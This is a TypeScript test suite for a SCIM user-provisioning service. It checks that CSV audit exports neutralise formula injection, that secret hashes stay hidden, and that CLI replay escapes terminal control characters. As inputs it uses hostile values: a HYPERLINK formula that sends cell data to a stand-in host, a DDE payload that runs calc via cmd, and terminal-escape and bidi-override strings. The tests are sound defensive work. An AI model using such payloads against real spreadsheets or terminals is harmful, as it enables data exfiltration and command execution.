import { createHash, randomUUID } from 'node:crypto';
import request from 'supertest';
import { personalFieldsOf, userStreamId } from '@scim-ledger/domain';
import { openEventStore } from '@scim-ledger/event-store';
import { runCli } from './support/run-cli';
import { scimTenantPlacingEveryone } from './support/scim-tenant';
import { E2E_DATABASE, entraUser, freshStorage, SCIM_JSON, startTestApp, TestApp } from './support/test-app';
import { builtEntry } from './support/processes';
import { TIMEOUTS } from './support/timeouts';

const OPERATOR = 'operator-token-0123456789abcdef';

/** RFC 4180 rows, quoted fields with doubled quotes and line breaks inside. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

// The CLI runs built (support/processes.ts, builtEntry): built here, under the build's time-out.
beforeAll(() => builtEntry('cli'), TIMEOUTS.build);

/** Issue 15, finding 7: what an IdP or a user name put in the events reaches no spreadsheet as a formula and no terminal as a control sequence. */
describe(`output that others open, on ${E2E_DATABASE}`, () => {
  let t: TestApp;
  let env: Record<string, string>;
  let drop: () => Promise<void>;
  let admin: { clientId: string; clientSecret: string };
  let token: string;

  beforeAll(async () => {
    const storage = await freshStorage();
    env = storage.env;
    drop = storage.drop;
    t = await startTestApp({ ...env, ADMIN_OPERATOR_TOKEN: OPERATOR });
    ({ admin, token } = await scimTenantPlacingEveryone(t, OPERATOR, { id: 'open', name: 'Open' }));
  }, 60_000);
  afterAll(async () => {
    await t?.close();
    await drop?.();
  });

  it.each([['=HYPERLINK("http://evil.example/?x="&A1,"Click")'], ["+cmd|' /C calc'!A0"], ['-2+3'], ['@SUM(1+1)']])(
    'given a user created with User-Agent %j, when the audit is exported as CSV, then the cell is text, not a formula',
    async (agent) => {
      const userName = `csv-${randomUUID().slice(0, 8)}@open.test`;
      const created = await request(t.http)
        .post('/scim/v2/Users')
        .set('Authorization', `Bearer ${token}`)
        .set('Content-Type', SCIM_JSON)
        .set('User-Agent', agent)
        .send(entraUser(userName));
      expect(created.status).toBe(201);

      const csv = await request(t.http).get(`/admin/v1/tenants/open/audit?format=csv&userId=${created.body.id}`).auth(admin.clientId, admin.clientSecret);

      const [header, ...rows] = csvRows(csv.text);
      const cells = rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
      expect(cells.map((cell) => cell.userAgent)).toEqual([`'${agent}`]);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    },
  );

  it('given the tenant issued API credentials and SCIM tokens, when its audit trail is read or exported, then no hash of a secret or a token is shown (found by the fourth attack on issue 15)', async () => {
    const second = await request(t.http).post('/admin/v1/tenants/open/api-credentials').auth(admin.clientId, admin.clientSecret).send({ name: 'second' });
    expect(second.status).toBe(201);
    const hashOf = (secret: string) => createHash('sha256').update(secret).digest('hex');
    const hashes = [token, admin.clientSecret, second.body.clientSecret].map(hashOf);
    for (const format of ['json', 'ndjson', 'csv']) {
      const read = await request(t.http).get(`/admin/v1/tenants/open/audit?format=${format}`).auth(admin.clientId, admin.clientSecret);
      expect(read.status).toBe(200);
      expect(read.text).toContain('ApiCredentialIssued');
      expect(read.text).toContain('ScimTokenGenerated');
      expect({ format, fields: read.text.match(/secretHash|tokenHash/g), hashes: hashes.filter((hash) => read.text.includes(hash)) }).toEqual({
        format,
        fields: null,
        hashes: [],
      });
    }
  });

  it('given a User-Agent with a C1 control byte (obs-text, which HTTP lets through), when it is recorded, then the event keeps U+FFFD in its place', async () => {
    const userName = `c1-${randomUUID().slice(0, 8)}@open.test`;
    const created = await request(t.http)
      .post('/scim/v2/Users')
      .set('Authorization', `Bearer ${token}`)
      .set('Content-Type', SCIM_JSON)
      .set('User-Agent', 'Okta\u009b31m\u0085x')
      .send(entraUser(userName));
    const feed = await request(t.http).get(`/admin/v1/tenants/open/audit?userId=${created.body.id}`).auth(admin.clientId, admin.clientSecret);
    // The client sends U+009B as UTF-8 (C2 9B); Node reads header bytes as latin1: "Â" and the C1 control.
    expect(feed.body.entries.map((entry: { userAgent: string }) => entry.userAgent)).toEqual(['Okta\u00c2\ufffd31m\u00c2\ufffdx']);
  });

  it(
    'given a user whose stored name holds terminal escapes, when support replays it, then every control character is shown escaped',
    async () => {
      // Written to the store directly, as `cli import` of a crafted file would: the CLI must be safe whatever the api let in.
      const hostile = 'mallory\u001b]0;owned\u0007\u001b[2J\u009b31m\u007f\u202eexe.txt@open.test';
      const userId = randomUUID();
      const store = await openEventStore(t.config.eventStore, personalFieldsOf);
      try {
        const data = {
          userId,
          tenantId: 'open',
          userName: hostile,
          email: hostile,
          displayName: `Display ${hostile}`,
          givenName: null,
          familyName: null,
          externalId: null,
          userPrincipalName: null,
          provisionedBy: 'scim',
          placement: null,
        };
        const metadata = {
          tenantId: 'open',
          actor: { kind: 'scim-token', id: `tok\u001b[31m` },
          requestId: 'req-hostile',
          userAgent: hostile,
          clientAddress: null,
          occurredAt: new Date().toISOString(),
          schemaVersion: 2,
        };
        await store.append(userStreamId(userId), [{ id: randomUUID(), type: 'UserCreated', data, metadata }], 'no_stream');
      } finally {
        await store.close();
      }

      const { code, stdout, stderr } = await runCli(env, 'replay', 'user', userId);

      expect([code, stderr]).toEqual([0, '']);
      expect(stdout).toContain('mallory\\u001b]0;owned\\u0007\\u001b[2J\\u009b31m\\u007f\\u202eexe.txt@open.test');
      expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    },
    TIMEOUTS.requests,
  );

  it(
    'given an unknown id full of escapes, when replayed, then the error message shows them escaped too',
    async () => {
      const { code, stdout, stderr } = await runCli(env, 'replay', 'user', 'nobody\u001b[2J');
      expect(code).not.toBe(0);
      expect(stderr + stdout).toContain('nobody\\u001b[2J');
      expect(stderr + stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    },
    TIMEOUTS.requests,
  );
});
